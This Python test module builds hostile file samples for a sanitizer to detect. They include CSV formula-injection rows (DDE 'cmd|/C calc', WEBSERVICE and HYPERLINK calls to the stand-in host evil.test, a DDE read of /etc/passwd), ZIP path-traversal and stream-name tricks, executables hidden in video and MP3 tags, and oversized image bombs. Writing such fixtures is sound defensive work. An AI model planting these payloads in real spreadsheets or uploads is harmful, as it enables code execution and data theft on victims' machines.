"""Archives, films, sounds and tables that say one thing to one reader and another to the next."""

import io
import struct
import zipfile
import zlib
from functools import partial

from tests.hostile.archives import zipped
from tests.hostile.case import Case
from tests.hostile.images import chunk, moving, picture
from tests.hostile.media import box, mp3, mp4, webm

_UNICODE_PATH = 0x7075


def _with_extra(name: str, told: str, *, entry: str = "utf-8") -> bytes:
    """An entry whose Info-ZIP Unicode Path (APPNOTE 4.6.9) is `told`."""
    raw = name.encode(entry)
    path = struct.pack("<BL", 1, zlib.crc32(raw)) + told.encode()
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        info = zipfile.ZipInfo("x" * len(raw), (2026, 9, 1, 8, 0, 0))
        info.extra = struct.pack("<HH", _UNICODE_PATH, len(path)) + path
        archive.writestr(info, b"a")
    return target.getvalue().replace(b"x" * len(raw), raw)


def _flagged(flags: int) -> bytes:
    whole = bytearray(zipped({"a.txt": b"a"}))
    for at in (6, whole.index(b"PK\1\2") + 8):
        whole[at : at + 2] = struct.pack("<H", flags)
    return bytes(whole)


def _on_another_disk() -> bytes:
    whole = bytearray(zipped({"a.txt": b"a"}))
    at = whole.index(b"PK\1\2") + 34
    whole[at : at + 2] = b"\1\0"
    return bytes(whole)


def _film_from(reference: bytes) -> bytes:
    """The film's data said to lie elsewhere (ISO/IEC 14496-12 §8.7.2); offsets stay right."""
    whole = mp4()
    at = whole.index(b"url \0\0\0\1")
    return whole[:at] + reference + whole[at + 8 :]


def film_elsewhere() -> bytes:
    return _film_from(b"url \0\0\0\0")


def _film_with(parent: bytes, kind: bytes) -> bytes:
    """A box more within another, behind the data, so offsets stay right."""
    whole = bytearray(mp4())
    at = whole.index(parent) - 4
    more = box(kind, b"x" * 100)
    size = struct.unpack_from(">I", whole, at)[0]
    struct.pack_into(">I", whole, at, size + len(more))
    end = at + size
    return bytes(whole[:end] + more + whole[end:])


def _nested_film(depth: int) -> bytes:
    inner = box(b"free", b"")
    for _ in range(depth):
        inner = box(b"moov", inner)
    return mp4() + inner


def _element(identifier: bytes, content: bytes) -> bytes:
    return identifier + struct.pack(">Q", len(content) | 1 << 56) + content


def _web_film_with(element: bytes) -> bytes:
    """An element more behind the last cluster; the segment's length is made unknown."""
    whole = bytearray(webm())
    at = whole.index(b"\x18\x53\x80\x67") + 4
    width = 9 - whole[at].bit_length()
    whole[at : at + width] = bytes(
        [whole[at] & ~((1 << (8 - width)) - 1) | (1 << (8 - width)) - 1]
    ) + b"\xff" * (width - 1)
    return bytes(whole) + element


def _framed_gif(width: int, height: int) -> bytes:
    """A small screen, and on it a frame that is not."""
    whole = bytearray(picture("GIF", "P"))
    at = whole.index(b"\x2c", 13 + 768)
    whole[at + 5 : at + 9] = struct.pack("<2H", width, height)
    return bytes(whole)


def _more_frames() -> bytes:
    """An animation of one frame, as it says, and of two thousand, as it is."""
    whole = moving("PNG")
    at = whole.index(b"IEND") - 4
    control = b"".join(
        chunk(b"fcTL", struct.pack(">5I2H2B", n, 1, 1, 0, 0, 1, 10, 0, 0)) for n in range(2000)
    )
    return whole[:at] + control + whole[at:]


def _tagged(frame: bytes, content: bytes) -> bytes:
    whole = frame + struct.pack(">I2x", len(content)) + content
    size = bytes((len(whole) >> shift) & 0x7F for shift in (21, 14, 7, 0))
    bare = mp3()
    if bare.startswith(b"ID3"):
        bare = bare[10 + (bare[6] << 21 | bare[7] << 14 | bare[8] << 7 | bare[9]) :]
    return b"ID3\3\0\0" + size + whole + bare


_TABLES = (
    ("=cmd|'/C calc'!A0", "dde"),
    ("甲,\"=1+cmd|'/C calc'!A0\"", "dde"),
    ("@SUM(1+1)*cmd|'/C calc'!A0", "dde"),
    ("甲;-2+3+cmd|'/C calc'!A0", "dde"),
    ("\t+cmd|'/C calc'!A0", "dde"),
    ('甲,"=HYPERLINK(""file://evil.test/a"",""看"")"', "action"),
    ('=WEBSERVICE("http://evil.test/"&A1)', "action"),
    ("='\\\\evil.test\\share\\[b.xlsx]S'!A1", "external-reference"),
    ("＝1+cmd|'/C calc'!A0", "dde"),
    ("甲\r=1+cmd|'/C calc'!A0", "dde"),
    ("=DDE(\"soffice\",\"file:///etc/passwd\",\"A1\")", "action"),
)  # fmt: skip

HONEST = [
    Case("a ZIP from Windows with names told twice", "a.zip", lambda: _with_extra("课件.txt", "课件.txt", entry="gb18030")),
    Case("a table of sums and telephone numbers", "a.csv", lambda: "姓名,电话,合计\n甲,+86 138,=SUM(A1:A3)\n乙,-5,@a|b\n".encode()),
    Case("a table of scores with bars", "a.csv", lambda: b"a,b\n1|2,x = y|z\n"),
]  # fmt: skip

HOSTILE = [
    *(Case(f"a table with {row[:24]!r}", "a.csv", partial(("姓名,分数\n" + row + "\n").encode, "utf-8"), code) for row, code in _TABLES),
    Case("a table that names its separator", "a.csv", lambda: "sep=^\n甲^=1+cmd|'/C calc'!A0\n".encode(), "dde"),
    Case("a table with a program, in a ZIP", "a.zip", lambda: zipped({"a.csv": f"a\n{_TABLES[0][0]}\n".encode()}), "dde"),
    Case("an entry with a second name", "a.zip", lambda: _with_extra("a.txt", "evil.exe"), "inconsistent"),
    Case("an entry with a second name elsewhere", "a.zip", lambda: _with_extra("a.txt", "../../evil.txt"), "inconsistent"),
    Case("an entry in another file's stream", "a.zip", lambda: zipped({"a.pdf:evil.txt": b"x"}), "path-trick"),
    Case("an entry whose header is encrypted", "a.zip", lambda: _flagged(0x2000), "encrypted"),
    Case("an entry that is a patch", "a.zip", lambda: _flagged(0x20), "unreadable"),
    Case("an entry on another disk", "a.zip", _on_another_disk, "inconsistent"),
    Case("a film whose data is elsewhere", "a.mp4", lambda: _film_from(b"url \0\0\0\0"), "external-reference"),
    Case("a film whose data is another file's", "a.mp4", lambda: _film_from(b"alis\0\0\0\0"), "external-reference"),
    Case("a film with an index that is packed", "a.mp4", lambda: _film_with(b"moov", b"cmov"), "damaged"),
    Case("a film that refers to films", "a.mp4", lambda: _film_with(b"moov", b"rmra"), "external-reference"),
    Case("boxes of a hundred levels", "a.mp4", lambda: _nested_film(100), "too-costly"),
    Case("a web film with an attachment", "a.webm", lambda: _web_film_with(_element(b"\x19\x41\xa4\x69", b"MZ" + b"\x90" * 300)), "embedded-file"),
    Case("a web film with an odd element", "a.webm", lambda: _web_film_with(_element(b"\x1d\x11\x22\x33", b"MZ" + b"\x90" * 300)), "hidden-data"),
    Case("a web film with two megabytes to spare", "a.webm", lambda: _web_film_with(_element(b"\xec", b"MZ" + b"\x90" * (2 << 20))), "hidden-data"),
    Case("a song with a file in its tag", "a.mp3", lambda: _tagged(b"GEOB", b"\0application/x\0a.exe\0\0MZ" + b"\x90" * 90), "embedded-file"),
    Case("a GIF of a frame larger than its screen", "a.gif", lambda: _framed_gif(60_000, 60_000), "too-many-pixels"),
    Case("a moving PNG of more frames than it says", "a.png", _more_frames, "too-many"),
]  # fmt: skip
